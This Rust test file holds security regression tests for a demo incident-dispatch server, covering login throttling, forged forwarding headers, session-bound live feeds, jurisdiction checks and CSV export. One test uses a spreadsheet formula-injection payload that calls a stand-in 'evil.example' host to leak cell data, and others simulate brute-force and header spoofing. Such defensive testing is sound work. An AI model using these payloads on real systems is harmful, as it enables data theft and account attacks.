//! Security round 2: each hole a hostile user found in the demo server, as a regression test
//! that failed on the code before the fix. Requests name their socket peer (`ConnectInfo`) as
//! `serve` does; a few run over a real socket.

use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{HeaderMap, Request, StatusCode, header};
use futures_util::{SinkExt, StreamExt};
use geo::InteriorPoint;
use model::ResourceKind;
use model::auth::Role;
use serde_json::{Value, json};
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};
use store::AuditQuery;
use tests::{TEST_PASSWORD, TestWorld, call};
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::client::IntoClientRequest;
use tower::ServiceExt;

fn peer(ip: &str) -> ConnectInfo<SocketAddr> {
    ConnectInfo(SocketAddr::new(ip.parse().unwrap(), 40_000))
}

/// `POST /api/login` from the socket peer `ip`, with extra headers; status, body, headers.
async fn login_from(
    w: &TestWorld,
    user: &str,
    password: &str,
    ip: &str,
    extra: &[(&str, &str)],
) -> (u16, Value, HeaderMap) {
    let mut req = Request::post("/api/login").header("content-type", "application/json");
    for (k, v) in extra {
        req = req.header(*k, *v);
    }
    let mut req = req.body(Body::from(json!({"username": user, "password": password}).to_string())).unwrap();
    req.extensions_mut().insert(peer(ip));
    let res = w.app().oneshot(req).await.unwrap();
    let (status, headers) = (res.status().as_u16(), res.headers().clone());
    let bytes = axum::body::to_bytes(res.into_body(), usize::MAX).await.unwrap();
    (status, serde_json::from_slice(&bytes).unwrap_or_default(), headers)
}

async fn audit_of(w: &TestWorld, actor: &str) -> Vec<model::auth::AuditEntry> {
    w.state.store.audit(AuditQuery { actor: Some(actor.into()), limit: 1_000, ..Default::default() }).await.unwrap()
}

/// The sources of `actor`'s audit rows, newest first.
async fn sources_of(w: &TestWorld, actor: &str) -> Vec<String> {
    audit_of(w, actor).await.iter().filter_map(|e| e.source.clone()).collect()
}

#[tokio::test]
async fn failed_logins_from_one_address_never_lock_out_another() {
    let w = TestWorld::new(300).await;
    // The attacker: made-up usernames, then the administrator's, from one address.
    let mut statuses = Vec::new();
    for k in 0..40 {
        statuses.push(login_from(&w, &format!("nobody{k}"), "guess", "203.0.113.66", &[]).await.0);
    }
    assert!(statuses[..20].iter().all(|s| *s == 401), "{statuses:?}");
    assert!(statuses[20..].contains(&429), "the address is slowed down past its free failures: {statuses:?}");
    for _ in 0..10 {
        let s = login_from(&w, "admin", "guess", "203.0.113.66", &[]).await.0;
        assert!(s == 401 || s == 429, "{s}");
    }
    // The attacker now waits, even with the right password, and is told how long.
    let (s, body, headers) = login_from(&w, "admin", TEST_PASSWORD, "203.0.113.66", &[]).await;
    assert_eq!(s, 429, "{body}");
    let wait: u64 = headers[header::RETRY_AFTER].to_str().unwrap().parse().unwrap();
    assert!((1..=900).contains(&wait), "{wait}");
    // Every user elsewhere, the administrator included, signs in at once.
    for user in ["admin", "city", "township"] {
        let (s, body, _) = login_from(&w, user, TEST_PASSWORD, "10.20.30.40", &[]).await;
        assert_eq!(s, 200, "{user}: {body}");
    }
}

#[tokio::test]
async fn forwarding_headers_count_only_from_trusted_proxies() {
    let mut w = TestWorld::new(300).await;
    // An untrusted client rotating X-Forwarded-For is still one address.
    let mut statuses = Vec::new();
    for k in 0..8 {
        let forged = format!("198.51.100.{k}");
        statuses.push(login_from(&w, "township", "guess", "203.0.113.7", &[("x-forwarded-for", &forged)]).await.0);
    }
    assert!(statuses.contains(&429), "rotating the header does not escape the delay: {statuses:?}");
    let sources = sources_of(&w, "township").await;
    assert!(!sources.is_empty());
    assert!(sources.iter().all(|s| s == "203.0.113.7"), "the socket is the source, not the header: {sources:?}");
    // Behind a trusted proxy the right-most untrusted hop is the client.
    w.state.trusted_proxies = Arc::new(server::peer::TrustedProxies::parse("10.0.0.0/8").unwrap());
    let chain = [("x-forwarded-for", "6.6.6.6, 192.0.2.44, 10.0.0.9")];
    assert_eq!(login_from(&w, "county", "guess", "10.0.0.2", &chain).await.0, 401);
    assert_eq!(sources_of(&w, "county").await, ["192.0.2.44 via 10.0.0.9"]);
}

#[tokio::test]
async fn audit_rows_keep_a_sane_length_of_username() {
    let w = TestWorld::new(300).await;
    let long = "x".repeat(20_000);
    assert_eq!(login_from(&w, &long, "guess", "203.0.113.8", &[]).await.0, 401);
    let (_, log) = w.get_as(Role::Admin, "/api/audit?action=login_failed").await;
    let actors: Vec<usize> =
        log.as_array().unwrap().iter().map(|e| e["actor"].as_str().unwrap().chars().count()).collect();
    assert!(actors.iter().all(|n| *n <= server::auth::AUDIT_USERNAME_CHARS), "{actors:?}");
    assert!(actors.contains(&server::auth::AUDIT_USERNAME_CHARS));
}

/// The second-fastest of four failed logins as `user(k)`, each from its own address.
async fn failed_login_time(w: &TestWorld, user: impl Fn(u32) -> String) -> Duration {
    let mut times = Vec::new();
    for k in 0..4 {
        let t = Instant::now();
        assert_eq!(login_from(w, &user(k), "guess", &format!("192.0.2.{}", 10 + k), &[]).await.0, 401);
        times.push(t.elapsed());
    }
    times.sort();
    times[1]
}

#[tokio::test]
async fn an_unknown_username_costs_as_much_as_a_wrong_password() {
    let w = TestWorld::new(300).await;
    let known = failed_login_time(&w, |_| "city".to_owned()).await;
    let unknown = failed_login_time(&w, |k| format!("ghost{k}")).await;
    // Without a stand-in hash an unknown user answered in well under a millisecond, against
    // tens of milliseconds of argon2id.
    assert!(unknown * 3 >= known, "unknown {unknown:?} vs known {known:?}");
}

#[tokio::test]
async fn wrong_current_passwords_are_throttled() {
    let w = TestWorld::new(300).await;
    let wrong = json!({"old_password": "not-it", "new_password": "a-new-password-9"}).to_string();
    let mut statuses = Vec::new();
    for _ in 0..6 {
        statuses.push(w.post_as(Role::County, "/api/password", wrong.clone()).await.0.as_u16());
    }
    assert_eq!(&statuses[..4], [403, 403, 403, 403]);
    assert_eq!(statuses[4], 429, "{statuses:?}");
    // The right password waits too: guessing is what the delay stops.
    let right = json!({"old_password": TEST_PASSWORD, "new_password": "a-new-password-9"}).to_string();
    assert_eq!(w.post_as(Role::County, "/api/password", right).await.0, 429);
}

#[tokio::test]
async fn a_flood_of_unknown_tokens_locks_nobody_out() {
    let w = TestWorld::new(300).await;
    let get = |token: String| {
        let mut req =
            Request::get("/api/me").header("authorization", format!("Bearer {token}")).body(Body::empty()).unwrap();
        req.extensions_mut().insert(peer("203.0.113.9"));
        call(w.app(), req)
    };
    assert_eq!(get("not-a-token".into()).await.0, 401);
    for _ in 0..200 {
        assert_eq!(get(server::auth::new_token()).await.0, 401);
    }
    // A real session from the same address still works, again and again.
    for _ in 0..3 {
        assert_eq!(get(w.token(Role::City).to_owned()).await.0, 200);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_guesses_meet_the_delay_too() {
    let w = Arc::new(TestWorld::new(300).await);
    let guesses: Vec<_> = (0..30)
        .map(|k| {
            let w = w.clone();
            tokio::spawn(async move { login_from(&w, "township", &format!("guess-{k}"), "203.0.113.20", &[]).await.0 })
        })
        .collect();
    let mut statuses = Vec::new();
    for g in guesses {
        statuses.push(g.await.unwrap());
    }
    let checked = statuses.iter().filter(|s| **s == 401).count();
    assert_eq!(checked, server::throttle::PER_ACCOUNT.free as usize + 1, "{statuses:?}");
    assert_eq!(statuses.iter().filter(|s| **s == 429).count(), 30 - checked);
}

#[tokio::test]
async fn a_client_cannot_pick_its_source_through_the_proxy() {
    let mut w = TestWorld::new(300).await;
    w.state.trusted_proxies = Arc::new(server::peer::TrustedProxies::parse("10.0.0.0/8").unwrap());
    // nginx appends to X-Forwarded-For and passes the client's own Forwarded header through.
    let forged = [("forwarded", "for=10.20.30.40"), ("x-forwarded-for", "192.0.2.99")];
    assert_eq!(login_from(&w, "village", "guess", "10.0.0.2", &forged).await.0, 401);
    assert_eq!(sources_of(&w, "village").await, ["192.0.2.99 via 10.0.0.2"]);
}

#[tokio::test]
async fn the_real_server_knows_its_peers() {
    let w = TestWorld::new(300).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let state = w.state.clone();
    tokio::spawn(server::cli::serve_http(listener, state, std::future::pending()));
    let body = json!({"username": "city", "password": "guess"}).to_string();
    let (status, _) = raw_http(addr, "POST", "/api/login", &[("X-Forwarded-For", "1.2.3.4")], &body).await;
    assert_eq!(status, 401);
    let log = audit_of(&w, "city").await;
    let failed: Vec<Option<&str>> =
        log.iter().filter(|e| e.action == "login_failed").map(|e| e.source.as_deref()).collect();
    assert_eq!(failed, [Some("127.0.0.1")], "the socket's peer, not the header");
}

/// One HTTP/1.1 request on a fresh connection: status and body.
async fn raw_http(addr: SocketAddr, method: &str, path: &str, headers: &[(&str, &str)], body: &str) -> (u16, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let extra: String = headers.iter().map(|(k, v)| format!("{k}: {v}\r\n")).collect();
    let req = format!(
        "{method} {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Type: application/json\r\n{extra}Content-Length: {}\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    s.read_to_end(&mut out).await.unwrap();
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (status, text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn analyses_are_bounded_and_run_beside_the_rest() {
    let mut w = TestWorld::new(2_000).await;
    // A band wider than the study area is refused, naming the field.
    let (s, e) = w.get("/api/hotspots?method=local-moran&weights=distance:1000000").await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("weights")), "{e}");
    let (s, e) = w.get("/api/hotspots/emerging?weights=distance:1000000").await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("weights")), "{e}");
    // A band inside the area that gives a cell too many neighbours is refused too.
    let cells = w.state.geography.cells().len();
    assert!(cells > server::cell_hotspots::MAX_NEIGHBOURS + 1, "the demo city has {cells} cells");
    let (s, e) = w.get("/api/hotspots?method=local-moran&weights=distance:150000").await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("weights")), "{e}");
    assert!(e["error"]["message"].as_str().unwrap().contains("neighbours"), "{e}");
    // An allowed local Moran's I answers.
    let (s, e) = w.get("/api/hotspots?method=local-moran&region=620602000000").await;
    assert_eq!(s, 200, "{e}");
    // With every place taken, heavy requests are told to come back; the rest answers at once.
    w.state.jobs = Arc::new(server::jobs::Jobs::new(1));
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let holder = {
        let (jobs, stop) = (w.state.jobs.clone(), stop.clone());
        tokio::spawn(async move {
            jobs.run(move |cancel| {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    cancel.check()?;
                    std::thread::sleep(Duration::from_millis(5));
                }
                Ok(())
            })
            .await
        })
    };
    while w.state.jobs.running() == 0 {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    let t = Instant::now();
    assert_eq!(w.get("/api/health").await.0, 200);
    assert!(t.elapsed() < Duration::from_secs(1));
    for uri in [
        "/api/hotspots",
        "/api/hotspots/emerging",
        "/api/hotspots/kde",
        "/api/hotspots/near-repeat",
        "/api/hotspots/forecast",
        "/api/coverage",
        "/api/workload/rebalance",
    ] {
        let req = Request::get(uri)
            .header("authorization", format!("Bearer {}", w.token(Role::City)))
            .body(Body::empty())
            .unwrap();
        let res = w.app().oneshot(req).await.unwrap();
        assert_eq!(res.status(), StatusCode::SERVICE_UNAVAILABLE, "{uri}");
        assert!(res.headers().contains_key(header::RETRY_AFTER), "{uri}");
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    holder.await.unwrap().unwrap();
    assert_eq!(w.get("/api/hotspots/kde").await.0, 200, "the place is free again");
}

/// A point inside the first cell of `region`.
fn point_in(w: &TestWorld, region: &str) -> (f64, f64) {
    let range = w.state.geography.cell_range(region.parse().unwrap());
    let p = w.state.geography.cells()[range.start as usize].boundary.interior_point().unwrap();
    (p.x(), p.y())
}

async fn report(w: &TestWorld, role: Role, at: (f64, f64)) -> u64 {
    let body = json!({"type": "Feature", "geometry": {"type": "Point", "coordinates": [at.0, at.1]},
        "properties": {"category": "criminal", "occurred_at": (tests::test_now() - chrono::Duration::hours(1)).to_rfc3339()}});
    let (s, f) = w.post_as(role, "/api/incidents", body.to_string()).await;
    assert_eq!(s, 201, "{f}");
    f["id"].as_u64().unwrap()
}

#[tokio::test]
async fn units_are_commanded_only_inside_the_jurisdiction() {
    let w = TestWorld::new(500).await;
    let township: model::RegionCode = "620602001000".parse().unwrap();
    let units: Vec<&model::Resource> =
        w.state.geography.resources().iter().filter(|r| r.kind == ResourceKind::PatrolUnit).collect();
    let own = units.iter().find(|r| township.contains(r.region_code)).unwrap().id;
    let foreign = units.iter().find(|r| !r.region_code.to_string().starts_with("620602")).unwrap().id;
    let id = report(&w, Role::Township, point_in(&w, "620602001000")).await;
    let dispatch = |unit: u64| json!({"to": "dispatched", "unit": unit}).to_string();
    let uri = format!("/api/incidents/{id}/transitions");
    let (s, e) = w.post_as(Role::Township, &uri, dispatch(foreign)).await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("unit")), "{e}");
    let refused_foreign = e["error"]["message"].clone();
    let (_, e) = w.post_as(Role::Township, &uri, dispatch(987_654)).await;
    assert_eq!(
        e["error"]["message"].as_str().map(|m| m.replace("987654", "#")),
        refused_foreign.as_str().map(|m| m.replace(&foreign.to_string(), "#")),
        "a foreign unit reads as no unit"
    );
    // Busy elsewhere: still the same 422, not a 409 telling its state.
    let elsewhere = report(&w, Role::City, point_in(&w, "620621000000")).await;
    let (s, e) = w.post_as(Role::City, &format!("/api/incidents/{elsewhere}/transitions"), dispatch(foreign)).await;
    assert_eq!(s, 200, "{e}");
    let (s, e) = w.post_as(Role::Township, &uri, dispatch(foreign)).await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("unit")), "{e}");
    // A village officer commands no station's unit.
    let village = w.state.live.desk().villages_of(w.state.geography.officers()[0].id)[0].to_string();
    let mine = report(&w, Role::Village, point_in(&w, &village)).await;
    let (s, e) = w.post_as(Role::Village, &format!("/api/incidents/{mine}/transitions"), dispatch(own)).await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("unit")), "{e}");
    // Positions: another station's unit is not there to move.
    let ping = json!({"lon": 102.64, "lat": 37.93, "status": "off_duty"}).to_string();
    let (s, _) = w.post_as(Role::Township, &format!("/api/units/{foreign}/position"), ping.clone()).await;
    assert_eq!(s, 404);
    assert_eq!(w.state.live.board().unit(foreign).unwrap().status, model::live::UnitStatus::Busy, "unchanged");
    // The station's own unit is dispatched as before.
    let (s, e) = w.post_as(Role::Township, &uri, dispatch(own)).await;
    assert_eq!(s, 200, "{e}");
    let (_, d) = w.get_as(Role::Township, &format!("/api/incidents/{id}/dispatch")).await;
    assert!(
        d["units"].as_array().unwrap().iter().all(|u| u["id"] != foreign),
        "suggestions are commandable units: {d}"
    );
}

type Socket = tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

async fn serve(w: &TestWorld) -> SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(server::cli::serve_http(listener, w.state.clone(), std::future::pending()));
    addr
}

async fn subscribe(addr: SocketAddr, token: &str) -> Socket {
    let mut req = format!("ws://{addr}/api/live").into_client_request().unwrap();
    req.headers_mut().insert("authorization", format!("Bearer {token}").parse().unwrap());
    let (mut ws, _) = tokio_tungstenite::connect_async(req).await.unwrap();
    loop {
        let m = tokio::time::timeout(Duration::from_secs(5), ws.next()).await.unwrap().unwrap().unwrap();
        if let Message::Text(t) = m
            && serde_json::from_str::<Value>(&t).unwrap()["type"] == "hello"
        {
            return ws;
        }
    }
}

/// Waits (up to 5 s) for the feed to close; its close code and reason, and whether an incident
/// message came first.
async fn closed(ws: &mut Socket) -> (u16, String, Vec<Value>) {
    let mut seen = Vec::new();
    loop {
        let m = tokio::time::timeout(Duration::from_secs(5), ws.next()).await.expect("closed within 5 s");
        match m {
            Some(Ok(Message::Close(Some(f)))) => return (f.code.into(), f.reason.to_string(), seen),
            Some(Ok(Message::Text(t))) => seen.push(serde_json::from_str(&t).unwrap()),
            Some(Ok(_)) => {}
            other => panic!("no close frame: {other:?}"),
        }
    }
}

/// A world whose live feeds check their session every 200 ms, served on a real socket.
async fn quickly_rechecking() -> (TestWorld, SocketAddr) {
    let mut w = TestWorld::new(300).await;
    w.state.settings = Arc::new(server::live::LiveSettings {
        session_recheck: Duration::from_millis(200),
        ..(*w.state.settings).clone()
    });
    let addr = serve(&w).await;
    (w, addr)
}

async fn fresh_token(w: &TestWorld, user: &str) -> String {
    let (s, body, _) = login_from(w, user, TEST_PASSWORD, "192.0.2.200", &[]).await;
    assert_eq!(s, 200, "{body}");
    body["token"].as_str().unwrap().to_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_live_feed_ends_with_its_session() {
    let (w, addr) = quickly_rechecking().await;
    let code = server::live::feed::CLOSE_SESSION_ENDED;
    // Sign-out.
    let token = fresh_token(&w, "city").await;
    let mut ws = subscribe(addr, &token).await;
    let req =
        Request::post("/api/logout").header("authorization", format!("Bearer {token}")).body(Body::empty()).unwrap();
    assert_eq!(call(w.app(), req).await.0, 204);
    let (c, reason, _) = closed(&mut ws).await;
    assert_eq!(c, code, "{reason}");
    assert!(reason.contains("signed out"), "{reason}");
    // A password change elsewhere.
    let token = fresh_token(&w, "county").await;
    let mut ws = subscribe(addr, &token).await;
    let body = json!({"old_password": TEST_PASSWORD, "new_password": "another-password-3"}).to_string();
    assert_eq!(w.post_as(Role::County, "/api/password", body).await.0, 204);
    assert_eq!(closed(&mut ws).await.0, code);
    // The user disabled (`safegrid user disable`).
    let token = fresh_token(&w, "analyst").await;
    let mut ws = subscribe(addr, &token).await;
    assert!(w.state.store.set_user_disabled("analyst", true).await.unwrap());
    let (c, reason, _) = closed(&mut ws).await;
    assert_eq!(c, code);
    assert!(reason.contains("disabled"), "{reason}");
    // Expiry after 12 hours.
    let token = fresh_token(&w, "township").await;
    let mut ws = subscribe(addr, &token).await;
    w.clock
        .set(tests::test_now() + chrono::Duration::hours(server::auth::SESSION_HOURS) + chrono::Duration::minutes(1));
    assert_eq!(closed(&mut ws).await.0, code);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_live_feed_follows_a_reassignment() {
    let (w, addr) = quickly_rechecking().await;
    let officer = w.state.geography.officers()[0].id;
    let village = w.state.live.desk().villages_of(officer)[0];
    // A second village, which the officer keeps.
    let kept = foreign_village(&w, "620602001000");
    let body = json!({"village": kept.to_string(), "officer": officer}).to_string();
    assert_eq!(w.post_as(Role::County, "/api/assignments", body).await.0, 201);
    let mut ws = subscribe(addr, w.token(Role::Village)).await;
    let at = point_in(&w, &village.to_string());
    let first = report(&w, Role::City, at).await;
    assert_eq!(next_incident(&mut ws).await, Some(first), "the officer's village is on the feed");
    // The village goes to nobody; within a check or two the feed stops showing it, while a
    // village the officer keeps still comes through.
    let body = json!({"village": village.to_string(), "officer": null}).to_string();
    let (s, e) = w.post_as(Role::County, "/api/assignments", body).await;
    assert_eq!(s, 201, "{e}");
    let mut dropped = false;
    for _ in 0..20 {
        tokio::time::sleep(Duration::from_millis(300)).await;
        let gone = report(&w, Role::City, at).await;
        let still = report(&w, Role::City, point_in(&w, &kept.to_string())).await;
        let mut seen = Vec::new();
        while let Some(id) = next_incident(&mut ws).await {
            seen.push(id);
            if id == still {
                break;
            }
        }
        assert!(seen.contains(&still), "the feed is alive: {seen:?}");
        if !seen.contains(&gone) {
            dropped = true;
            break;
        }
    }
    assert!(dropped, "a reassigned village leaves the feed");
}

/// The id of the next new-incident message within 2 s, if any.
async fn next_incident(ws: &mut Socket) -> Option<u64> {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(2);
    loop {
        let m = tokio::time::timeout_at(deadline, ws.next()).await.ok()??.ok()?;
        if let Message::Text(t) = m {
            let v: Value = serde_json::from_str(&t).unwrap();
            if v["type"] == "incident" {
                return v["data"]["id"].as_u64();
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_feed_client_may_not_send_large_messages() {
    let w = TestWorld::new(300).await;
    let addr = serve(&w).await;
    let mut ws = subscribe(addr, w.token(Role::City)).await;
    ws.send(Message::Text("x".repeat(64 << 10).into())).await.unwrap();
    let end = tokio::time::timeout(Duration::from_secs(5), async {
        loop {
            match ws.next().await {
                Some(Ok(Message::Close(f))) => return f.map(|f| u16::from(f.code)),
                Some(Ok(_)) => {}
                _ => return None,
            }
        }
    })
    .await
    .expect("the server ends the connection");
    assert_ne!(end, Some(1000), "not a normal close");
}

#[tokio::test]
async fn csv_cells_cannot_become_formulas() {
    let w = TestWorld::new(300).await;
    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
    assert_eq!(login_from(&w, evil, "guess", "203.0.113.5", &[]).await.0, 401);
    let req = Request::get("/api/audit?format=csv")
        .header("authorization", format!("Bearer {}", w.token(Role::Admin)))
        .body(Body::empty())
        .unwrap();
    let res = w.app().oneshot(req).await.unwrap();
    let text = String::from_utf8(axum::body::to_bytes(res.into_body(), usize::MAX).await.unwrap().to_vec()).unwrap();
    let mut cells = 0;
    for record in csv::Reader::from_reader(text.as_bytes()).records() {
        for cell in record.unwrap().iter() {
            cells += 1;
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(!risky || cell.parse::<f64>().is_ok(), "a formula cell: {cell:?}");
        }
    }
    assert!(cells > 0);
    assert!(text.contains("'=HYPERLINK"), "the attempt is kept, defused");
}

#[cfg(unix)]
#[tokio::test]
async fn the_store_is_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    use store::Store;
    let top = tempfile::tempdir().unwrap();
    let dir = top.path().join("data");
    let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let store = store::gpkg::GpkgStore::open(&dir).unwrap();
    store
        .append_audit(store::NewAudit {
            actor: "t".into(),
            role: None,
            action: "test",
            target: "-".into(),
            source: None,
            result: "ok",
            detail: None,
        })
        .await
        .unwrap();
    let file = dir.join(store::gpkg::FILE_NAME);
    assert_eq!(mode(&dir), 0o700);
    assert_eq!(mode(&file), 0o600);
    let wal = dir.join(format!("{}-wal", store::gpkg::FILE_NAME));
    assert!(wal.exists());
    assert_eq!(mode(&wal), 0o600);
    let backup = top.path().join("copy.gpkg");
    store.backup(&backup).await.unwrap();
    assert_eq!(mode(&backup), 0o600);
    drop(store);
    // Loosened by hand: the next open tightens it again.
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let _store = store::gpkg::GpkgStore::open(&dir).unwrap();
    assert_eq!((mode(&dir), mode(&file)), (0o700, 0o600));
}

#[tokio::test]
async fn batches_are_counted_while_they_are_read() {
    let w = TestWorld::new(300).await;
    let before = w.state.index().len();
    let post = |body: String, kind: &'static str| {
        let req = Request::post("/api/incidents/batch")
            .header("content-type", kind)
            .header("authorization", format!("Bearer {}", w.token(Role::City)))
            .body(Body::from(body))
            .unwrap();
        call(w.app(), req)
    };
    let lines = "{}\n".repeat(server_batch_limit() + 1);
    let (s, e) = post(lines, "application/x-ndjson").await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("features")), "{e}");
    assert!(e["error"]["message"].as_str().unwrap().contains(&format!("line {}", server_batch_limit() + 1)), "{e}");
    let many =
        format!(r#"{{"type":"FeatureCollection","features":[{}]}}"#, vec!["{}"; 3 * server_batch_limit()].join(","));
    let (s, e) = post(many, "application/json").await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("features")), "{e}");
    assert_eq!(w.state.index().len(), before);
}

fn server_batch_limit() -> usize {
    server::api::MAX_BATCH_ITEMS
}

#[tokio::test]
async fn a_new_report_cannot_skip_the_event_loop() {
    let w = TestWorld::new(300).await;
    let before = w.state.index().len();
    let body = json!({"type": "Feature", "geometry": {"type": "Point", "coordinates": [102.64, 37.93]},
        "properties": {"category": "traffic", "status": "closed", "occurred_at": "2026-10-31T08:00:00Z"}});
    let (s, e) = w.post("/api/incidents", body.to_string()).await;
    assert_eq!((s.as_u16(), e["error"]["field"].as_str()), (422, Some("properties.status")), "{e}");
    let batch = json!({"type": "FeatureCollection", "features": [body]});
    let (s, e) = w.post("/api/incidents/batch", batch.to_string()).await;
    assert_eq!(s, 422, "{e}");
    assert_eq!(e["error"]["items"][0]["field"], "properties.status");
    assert_eq!(w.state.index().len(), before);
}

#[tokio::test]
async fn search_hits_are_on_record() {
    let w = TestWorld::new(2_000).await;
    let incident =
        w.state.store.incidents_by_id(&model::scope::Scope::everything(), vec![model::IncidentId(5)]).await.unwrap();
    let address = incident[0].fields.address.clone().unwrap();
    let q: String = address.chars().take(6).collect();
    let (s, hits) = w.get_as(Role::Analyst, &format!("/api/search?q={}", urlencode(&q))).await;
    assert_eq!(s, 200);
    assert!(!hits["incidents"].as_array().unwrap().is_empty(), "{hits}");
    let log = audit_of(&w, "analyst").await;
    let entry = log.iter().find(|e| e.action == "search_incidents").expect("the search is on record");
    assert_eq!(entry.target, q);
    let first = hits["incidents"][0]["id"].as_u64().unwrap().to_string();
    assert!(entry.detail.as_deref().unwrap().split(',').any(|id| id == first));
}

fn urlencode(s: &str) -> String {
    form_urlencoded::byte_serialize(s.as_bytes()).collect()
}

#[tokio::test]
async fn every_answer_carries_the_security_headers() {
    let w = TestWorld::new(300).await;
    for uri in ["/api/health", "/api/me", "/api/nothing", "/glyphs/DejaVu%20Sans%20Book/0-255.pbf"] {
        let res = w.app().oneshot(Request::get(uri).body(Body::empty()).unwrap()).await.unwrap();
        let h = res.headers();
        assert_eq!(h["x-content-type-options"], "nosniff", "{uri}");
        assert_eq!(h["x-frame-options"], "DENY", "{uri}");
        assert!(h["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"), "{uri}");
    }
    // The page's own policy: its inline loader by hash, nothing from elsewhere.
    let html = b"<html><script type=\"module\">import init from '/a.js';await init();</script><script src=\"/b.js\"></script></html>";
    let policy = server::web::page_policy(html, &model::api::UiConfig::default());
    use base64::Engine;
    use sha2::Digest;
    let hash = base64::engine::general_purpose::STANDARD
        .encode(sha2::Sha256::digest(b"import init from '/a.js';await init();"));
    assert!(policy.contains(&format!("'sha256-{hash}'")), "{policy}");
    assert!(policy.contains("frame-ancestors 'none'") && !policy.contains("'unsafe-eval'"), "{policy}");
    let ui = model::api::UiConfig {
        base_layers: vec![model::api::BaseLayer {
            name: "底图".into(),
            kind: "raster".into(),
            url: "http://pgis.local:8081/tiles/{z}/{x}/{y}.png".into(),
            attribution: "x".into(),
        }],
    };
    assert!(server::web::page_policy(html, &ui).contains("img-src 'self' data: blob: http://pgis.local:8081;"));
}

#[tokio::test]
async fn a_reversed_glyph_range_is_a_clear_400() {
    let w = TestWorld::new(300).await;
    let res = w
        .app()
        .oneshot(Request::get("/glyphs/DejaVu%20Sans%20Book/512-256.pbf").body(Body::empty()).unwrap())
        .await
        .unwrap();
    assert_eq!(res.status(), 400);
}

#[tokio::test]
async fn cross_origin_and_non_json_writes_are_refused() {
    let w = TestWorld::new(300).await;
    let before = w.state.index().len();
    let body = json!({"type": "Feature", "geometry": {"type": "Point", "coordinates": [102.64, 37.93]},
        "properties": {"category": "traffic", "occurred_at": "2026-10-31T08:00:00Z"}})
    .to_string();
    let send = |headers: Vec<(&'static str, &'static str)>| {
        let mut req =
            Request::post("/api/incidents").header("authorization", format!("Bearer {}", w.token(Role::City)));
        for (k, v) in headers {
            req = req.header(k, v);
        }
        call(w.app(), req.body(Body::from(body.clone())).unwrap())
    };
    let (s, e) = send(vec![("content-type", "text/plain"), ("host", "127.0.0.1:8080")]).await;
    assert_eq!((s.as_u16(), e["error"]["code"].as_str()), (415, Some("unsupported_media_type")), "{e}");
    let foreign =
        vec![("content-type", "application/json"), ("host", "127.0.0.1:8080"), ("origin", "http://127.0.0.1:9999")];
    assert_eq!(send(foreign).await.0, 403);
    let same_site = vec![
        ("content-type", "application/json"),
        ("host", "127.0.0.1:8080"),
        ("origin", "http://127.0.0.1:8080"),
        ("sec-fetch-site", "same-site"),
    ];
    assert_eq!(send(same_site).await.0, 403);
    assert_eq!(w.state.index().len(), before, "nothing stored");
    let own =
        vec![("content-type", "application/json"), ("host", "127.0.0.1:8080"), ("origin", "http://127.0.0.1:8080")];
    assert_eq!(send(own).await.0, 201);
}

/// A village of `township` not covered by officer 0 (the village user).
fn foreign_village(w: &TestWorld, township: &str) -> model::RegionCode {
    let mine = w.state.live.desk().villages_of(w.state.geography.officers()[0].id);
    let township: model::RegionCode = township.parse().unwrap();
    w.state
        .geography
        .regions()
        .iter()
        .map(|r| r.region.code)
        .find(|c| c.level() == model::RegionLevel::Village && township.contains(*c) && !mine.contains(c))
        .unwrap()
}

#[tokio::test]
async fn a_leader_sees_only_their_part_of_an_officers_desk() {
    let w = TestWorld::new(2_000).await;
    let officer = w.state.geography.officers()[0].id;
    let own_township = "620602001000";
    assert!(w.state.live.desk().villages_of(officer).iter().all(|v| v.to_string().starts_with("620602001")));
    // The county gives the officer a village of another township too.
    let other = foreign_village(&w, "620602002000");
    let body = json!({"village": other.to_string(), "officer": officer}).to_string();
    let (s, e) = w.post_as(Role::County, "/api/assignments", body).await;
